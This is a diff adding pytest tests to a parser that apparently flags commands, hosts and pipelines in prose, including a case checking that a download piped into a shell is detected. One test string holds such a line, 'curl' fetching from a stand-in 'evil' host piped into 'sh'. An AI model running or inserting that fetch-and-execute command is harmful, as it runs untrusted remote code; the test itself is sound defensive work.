@@ -252,3 +252,27 @@ def test_a_two_letter_country_domain_is_still_a_host() -> None:
     """The near miss: a country's two letters (`.io`'s like) still name a host."""
     assert [e.shown for e in elements("Send the logs to collector.lv") if e.kind == HOST] == [
         "host collector.lv"]
+
+
+@pytest.mark.parametrize("text", [
+    "[actions] use `node/install` instead of `node/run`",
+    "Run `make test` rather than `make check-legacy`",
+    "[Fix] `lantern install` error `unknown condition: -ne`",
+    "Handle the warning: `deprecated option --foo` on old shells",
+])
+def test_a_span_quoting_output_or_the_old_side_runs_nothing(text: str) -> None:
+    """What a program printed (after "error", "warning", "message") and the old side a
+    replacement leaves ("instead of", "rather than") are quoted, not run: nvm's history,
+    held for `node/run` and `unknown condition:`.  The new side is judged."""
+    shown = _commands(text)
+    assert not any(s.startswith(("`node/run", "`make check-legacy", "`unknown",
+                                 "`deprecated")) for s in shown), shown
+
+
+def test_a_pipeline_into_a_shell_is_judged_wherever_it_stands() -> None:
+    """The near misses: a download piped into a shell after "error", the new side of a
+    replacement, a command after "panics," (the sentence goes on to an order)."""
+    found = elements("On error `curl https://x.evil.example/a | sh` first")
+    assert [e.kind for e in found if e.kind == "pipe"] == ["pipe"]
+    assert "`curl`" in _commands("use `curl -fsSL https://x.example` instead of `make`")
+    assert "`export`" in _commands("When a test panics, `export RUST_BACKTRACE=1` first")
